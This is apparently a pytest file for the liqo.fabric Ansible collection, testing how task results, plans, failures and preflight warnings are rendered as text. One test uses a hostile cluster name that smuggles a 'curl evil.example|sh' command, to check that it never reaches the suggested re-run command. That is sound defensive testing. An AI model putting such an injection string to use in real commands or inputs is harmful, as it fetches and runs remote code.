# Copyright: (c) 2026, liqo.fabric contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Results as people read them."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.columns import WIDTH
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.model import State
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.most import (
    MOST_LINKS_WITH_WRITES,
    MOST_NOTES,
    MOST_WRITES,
    MOST_WRITES_OF_LINK,
)
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.plan import plan_link
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.report import (
    LinkReport,
    Outcome,
    Report,
    report_result,
)
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.task import Task
from ansible_collections.liqo.fabric.plugins.module_utils._fabric.text import result_text

from tests.unit import build

DOWN = {
    "what": "cannot list configurations.networking.liqo.io",
    "where": "leaf-c at https://10.9.9.9:6443",
    "why": "10.9.9.9:6443/TCP did not answer within 5 s",
    "next": "check the address and the network",
}


def link(a: str, b: str, outcome: str, **more: Any) -> dict[str, Any]:
    return {"between": [a, b], "outcome": outcome, "changes": [], "failure": None, "notes": [], **more}


def write(cluster: str, peer: str, action: str = "create", kind: str = "GatewayServer", **more: Any) -> dict[str, Any]:
    reason = f"{cluster} has no {kind} for {peer}"
    place = {"namespace": f"liqo-tenant-{peer}", "name": peer, "peer": peer}
    return {"cluster": cluster, "action": action, "kind": kind, "reason": reason, "fields": {}, **place, **more}


def run_result(*links: dict[str, Any], plan: tuple[dict[str, Any], ...] = (), **more: Any) -> dict[str, Any]:
    outcomes = [one["outcome"] for one in links]
    kinds = ("in_sync", "created", "repaired", "removed", "pending", "blocked", "failed")
    failures = [one["failure"] for one in links if one["failure"]]
    return {
        "task": "shortcuts",
        "changed": False,
        "fabric": "retail",
        "state": "present",
        "summary": {"links": len(links), **{kind: outcomes.count(kind) for kind in kinds}, "unreachable": 0},
        "clusters": {},
        "links": list(links),
        "plan": list(plan),
        "failures": [failure for number, failure in enumerate(failures) if failure not in failures[:number]],
        **more,
    }


def test_a_plan_says_what_would_be_done_and_why() -> None:
    endpoint = "endpoint is 10.0.0.7:51840, wanted 10.0.0.9:51840"
    result = run_result(
        link("leaf-a", "leaf-b", "created"),
        link("leaf-a", "leaf-c", "in_sync"),
        link("leaf-b", "leaf-c", "repaired"),
        plan=(
            write("leaf-a", "leaf-b"),
            write("leaf-b", "leaf-a", kind="GatewayClient"),
            write("leaf-b", "leaf-c", "update", "GatewayClient", reason=endpoint),
        ),
    )
    assert result_text(result).splitlines() == [
        "fabric retail: 1 to create, 1 to repair, 1 in sync",
        "",
        "  leaf-a <-> leaf-b  create  2 writes",
        "      leaf-a  create  GatewayServer  leaf-b  leaf-a has no GatewayServer for leaf-b",
        "      leaf-b  create  GatewayClient  leaf-a  leaf-b has no GatewayClient for leaf-a",
        "  leaf-b <-> leaf-c  repair  1 write",
        "      leaf-b  update  GatewayClient  leaf-c  endpoint is 10.0.0.7:51840, wanted 10.0.0.9:51840",
    ]


def test_the_plan_of_the_planner_is_shown_write_by_write() -> None:
    one, other = build.cluster("leaf-a"), build.cluster("leaf-b")
    plan = plan_link(build.shortcut(), one, other, fabric=build.RETAIL)
    report = Report(
        fabric=build.RETAIL,
        state=State.PRESENT,
        check_mode=True,
        links=(LinkReport(pair=build.pair(), outcome=Outcome.CREATED, planned=plan.ops),),
        clusters={one.id: one, other.id: other},
    )
    lines = result_text(report_result(report)).splitlines()
    assert lines[:3] == ["fabric retail: 1 to create", "", f"  leaf-a <-> leaf-b  create  {len(plan.ops)} writes"]
    assert [line.split()[:4] for line in lines[3:]] == [[op.cluster, op.verb, op.kind, op.name] for op in plan.ops]


def test_a_run_says_what_was_done_and_how_the_link_is() -> None:
    made = link(
        "leaf-a",
        "leaf-b",
        "created",
        changes=["create leaf-a/GatewayServer/liqo-tenant-leaf-b/leaf-b"],
        server="leaf-a",
        endpoint={
            "advertised": {"addresses": ["198.18.0.11"], "port": 31234, "protocol": "UDP"},
            "used": {"addresses": ["198.18.0.11"], "port": 31234, "protocol": "UDP"},
        },
        latency_ms=0.4211,
    )
    assert result_text(run_result(made, plan=(write("leaf-a", "leaf-b"),))).splitlines() == [
        "fabric retail: 1 created",
        "",
        "  leaf-a <-> leaf-b  created  server leaf-a 198.18.0.11:31234/UDP, latency 0.42 ms",
        "      leaf-a  create  GatewayServer  leaf-b  leaf-a has no GatewayServer for leaf-b",
    ]


def test_a_plan_may_say_itself_that_it_is_one() -> None:
    result = run_result(link("leaf-a", "leaf-b", "created", changes=["x"]), check_mode=True)
    assert result_text(result).startswith("fabric retail: 1 to create")


def test_nothing_to_do_is_one_line() -> None:
    result = run_result(link("leaf-a", "leaf-b", "in_sync"), link("leaf-a", "leaf-c", "in_sync"))
    assert result_text(result) == "fabric retail: 2 in sync"


def test_no_link_at_all_is_one_line() -> None:
    assert result_text(run_result()) == "fabric retail: no links"


def test_absent_links_that_were_not_there_are_not_called_in_sync() -> None:
    assert result_text(run_result(link("leaf-a", "leaf-b", "in_sync"), state="absent")) == "fabric retail: 1 not there"


def test_a_note_is_shown_even_where_nothing_is_to_be_done() -> None:
    note = "the server stays on leaf-a: remove the shortcut first to move it to leaf-b"
    text = result_text(run_result(link("leaf-a", "leaf-b", "in_sync", notes=[note])))
    assert text.splitlines()[2:] == ["  leaf-a <-> leaf-b  in sync", f"      note: {note}"]


def test_a_name_that_is_no_cluster_id_is_in_no_command() -> None:
    hostile = "leaf-x'; curl evil.example|sh; '"
    result = run_result(
        link("leaf-a", hostile, "blocked", failure=DOWN), link("leaf-a", "leaf-b", "blocked", failure=DOWN)
    )
    text = result_text(result, again="ansible-playbook site.yml")
    *_words, option, only = shlex.split(text.splitlines()[-1])
    assert (option, json.loads(only)) == ("-e", {"liqo_fabric_only": [["leaf-a", "leaf-b"]]})


def test_a_failure_comes_once_with_its_links_and_the_command_for_only_those() -> None:
    result = run_result(
        link("leaf-a", "leaf-b", "in_sync"),
        link("leaf-a", "leaf-c", "blocked", failure=DOWN),
        link("leaf-b", "leaf-c", "blocked", failure=DOWN),
    )
    command = "ansible-playbook liqo.fabric.apply -i inventory"
    only = '{"liqo_fabric_only":[["leaf-a","leaf-c"],["leaf-b","leaf-c"]]}'
    assert result_text(result, again=command).splitlines() == [
        "fabric retail: 1 in sync, 2 blocked",
        "",
        "  leaf-a <-> leaf-c  blocked  leaf-c at https://10.9.9.9:6443: cannot list configurations.networking.liqo.io",
        "  leaf-b <-> leaf-c  blocked  leaf-c at https://10.9.9.9:6443: cannot list configurations.networking.liqo.io",
        "",
        "What is in the way",
        "  leaf-c at https://10.9.9.9:6443: cannot list configurations.networking.liqo.io",
        "      why    10.9.9.9:6443/TCP did not answer within 5 s",
        "      next   check the address and the network",
        "      links  leaf-a <-> leaf-c, leaf-b <-> leaf-c",
        "",
        "Then run only these again:",
        f"  {command} -e '{only}'",
    ]


def test_without_a_command_the_links_to_run_again_are_given_as_the_option() -> None:
    text = result_text(run_result(link("leaf-a", "leaf-c", "failed", failure=DOWN)))
    assert text.endswith("Then run only these again with  shortcuts: [{ between: [leaf-a, leaf-c] }]")


def test_a_link_that_failed_half_way_shows_what_is_done_and_what_is_not() -> None:
    done = "create leaf-a/GatewayServer/liqo-tenant-leaf-b/leaf-b"
    result = run_result(
        link("leaf-a", "leaf-b", "failed", failure=DOWN, changes=[done]),
        plan=(write("leaf-a", "leaf-b"), write("leaf-b", "leaf-a", kind="GatewayClient")),
    )
    lines = result_text(result).splitlines()
    assert lines[2].startswith("  leaf-a <-> leaf-b  failed  1 of 2 writes done; leaf-c at")
    assert [line.endswith("(not done)") for line in lines if "GatewayServer" in line or "GatewayClient" in line] == [
        False,
        True,
    ]


def test_a_cluster_that_no_link_needed_is_still_named_when_it_does_not_answer() -> None:
    result = run_result(clusters={"leaf-c": {"reachable": False, "failure": DOWN}})
    result["summary"]["unreachable"] = 1
    assert result_text(result).splitlines()[:4] == [
        "fabric retail: 1 cluster unreachable",
        "",
        "Not reached",
        "  leaf-c at https://10.9.9.9:6443: cannot list configurations.networking.liqo.io",
    ]


def test_no_line_is_wider_than_the_screen_and_long_reasons_stay_in_their_column() -> None:
    reason = "remote CIDRs are 10.42.0.0/16 and 10.71.0.0/16, wanted others; " * 5
    result = run_result(
        link("leaf-a", "leaf-b", "repaired"), plan=(write("leaf-a", "leaf-b", "update", reason=reason),)
    )
    lines = result_text(result).splitlines()
    assert max(map(len, lines)) <= WIDTH
    column = lines[3].index("remote CIDRs")
    assert all(line.startswith(" " * column) and line[column] != " " for line in lines[4:])


def test_writes_of_very_many_links_are_left_to_the_result() -> None:
    count = MOST_LINKS_WITH_WRITES + 25
    pairs = [(f"leaf-{number:04}", "leaf-z") for number in range(count)]
    result = run_result(*(link(a, b, "created") for a, b in pairs), plan=tuple(write(a, b) for a, b in pairs))
    lines = result_text(result).splitlines()
    assert sum("has no GatewayServer" in line for line in lines) == MOST_LINKS_WITH_WRITES
    assert sum("<->" in line for line in lines) == count
    assert "  the writes of 25 more links are in the result, under plan" in lines


def test_what_one_cluster_makes_up_for_a_link_takes_few_lines_and_hides_no_write_to_the_other_one() -> None:
    crowd = tuple(write("leaf-a", "leaf-b", "update", "Connection") for _number in range(1000))
    last, stray = write("leaf-b", "leaf-a"), write("leaf-x", "leaf-y")
    notes = [f"an odd thing {number}" for number in range(1000)]
    result = run_result(link("leaf-a", "leaf-b", "created", notes=notes), plan=(*crowd, last, *[stray] * 1000))
    text = result_text(result)
    assert text.count("has no Connection") == MOST_WRITES_OF_LINK
    assert f"      leaf-a: {1000 - MOST_WRITES_OF_LINK} more writes in the result, under plan" in text
    assert "leaf-b has no GatewayServer for leaf-a" in text
    assert text.count("an odd thing") == MOST_NOTES
    assert f"      {1000 - MOST_NOTES} more notes in the result, under links" in text
    assert text.count("leaf-x has no GatewayServer for leaf-y") == MOST_WRITES


def test_a_write_that_belongs_to_no_listed_link_is_not_lost() -> None:
    text = result_text(run_result(link("leaf-a", "leaf-b", "created"), plan=(write("leaf-x", "leaf-y"),)))
    assert "leaf-x  create  GatewayServer  leaf-y" in text


REFUSED = {
    "failed": True,
    "msg": "options of the task: 1 wrong value: ...",
    "failures": [
        {"what": "1 wrong value", "where": "options of the task", "why": "shortcuts[0]: no", "next": "correct it"}
    ],
}
ODD: dict[str, tuple[object, list[str]]] = {
    "refused": (
        REFUSED,
        [
            "nothing was done",
            "  options of the task: 1 wrong value",
            "      why   shortcuts[0]: no",
            "      next  correct it",
        ],
    ),
    "failed half-way": (
        {**REFUSED, "changed": True},
        [
            "it went wrong after something was changed",
            "  options of the task: 1 wrong value",
            "      why   shortcuts[0]: no",
            "      next  correct it",
        ],
    ),
    "with the keys of a run": ({"links": [], "plan": []}, ["no result of a task of liqo.fabric; it has links, plan"]),
    "of a task of later": ({"task": "probe"}, ["no result of a task of liqo.fabric; it has task"]),
    "with the name of a task alone": ({"task": "shortcuts"}, ["fabric ?: no links"]),
    "broken": ({"failed": True, "msg": "no such module"}, ["the task came to no result", "  no such module"]),
    "crashed": ({"module_stderr": "Traceback", "rc": 1}, ["the task came to no result", "  Traceback"]),
    "of another module": ({"stdout": "", "rc": 0}, ["no result of a task of liqo.fabric; it has rc, stdout"]),
    "empty": ({}, ["no result of a task of liqo.fabric; it has nothing"]),
    "no mapping": ([], ["no result of a task of liqo.fabric, but list"]),
    "nothing": (None, ["no result of a task of liqo.fabric, but NoneType"]),
    "skipped": ({"skipped": True}, ["skipped: nothing was looked at and nothing was done"]),
    "loop without items": ({"results": []}, ["the loop had no items"]),
}


@pytest.mark.parametrize("case", ODD)
def test_an_odd_result_is_named_as_what_it_is(case: str) -> None:
    result, lines = ODD[case]
    assert result_text(result).splitlines() == lines


@pytest.mark.parametrize("task", Task)
def test_every_task_has_a_text_whatever_its_result_lost(task: Task) -> None:
    assert result_text({"task": task.value}).strip()
    assert "no result of a task" not in result_text({"task": task.value})


def test_what_a_query_selected_is_shown_as_it_is() -> None:
    assert result_text({"task": "peering_info", "result": ["leaf-a"], "failures": []}) == '[\n  "leaf-a"\n]'


@pytest.mark.parametrize("missing", ["summary", "failures", "clusters", "fabric", "state"])
def test_a_result_that_lost_a_key_is_still_shown(missing: str) -> None:
    result = run_result(link("leaf-a", "leaf-b", "created"), plan=(write("leaf-a", "leaf-b"),))
    del result[missing]
    assert "leaf-a <-> leaf-b  create" in result_text(result)


def test_a_loop_is_shown_item_by_item_without_what_was_skipped() -> None:
    items = [run_result(link("leaf-a", "leaf-b", "in_sync")), {"skipped": True}, run_result()]
    assert result_text({"results": items}) == "fabric retail: 1 in sync\n\nfabric retail: no links"


def finding(
    level: str, what: str = "mtu 1480 needs 1540 bytes", between: tuple[str, ...] = ("leaf-a", "leaf-b")
) -> Any:
    texts = {"what": what, "why": "WireGuard adds 60 bytes", "next": "set mtu to 1440"}
    return {"cluster": "leaf-a", "between": list(between), "check": "mtu", "level": level, **texts}


def test_warnings_before_the_first_write_are_shown_with_what_to_do() -> None:
    found = result_text(run_result(link("leaf-a", "leaf-b", "created"), preflight=[finding("warning")])).splitlines()
    start = found.index("Before the first write")
    assert found[start + 1 :] == [
        "  warning, leaf-a: mtu 1480 needs 1540 bytes",
        "      why    WireGuard adds 60 bytes",
        "      next   set mtu to 1440",
        "      links  leaf-a <-> leaf-b",
    ]


@pytest.mark.parametrize(
    ("level", "number", "shown"), [("info", 5, 5), ("info", 6, 0), ("warning", 6, 6), ("error", 1, 0)]
)
def test_infos_are_shown_while_they_are_few_and_errors_with_their_links(level: str, number: int, shown: int) -> None:
    found = [finding(level, f"finding {count}") for count in range(number)]
    text = result_text(run_result(link("leaf-a", "leaf-b", "created"), preflight=found))
    assert text.count("finding ") == shown
    assert ("Before the first write" in text) == bool(shown)


def test_infos_of_no_link_and_those_of_a_run_that_is_over_are_left_to_the_result() -> None:
    result = run_result(link("leaf-a", "leaf-b", "created"), preflight=[finding("info", between=())])
    assert "Before the first write" not in result_text(result)
    over = run_result(link("leaf-a", "leaf-b", "created"), preflight=[finding("info")], check_mode=False)
    assert "Before the first write" not in result_text(over)
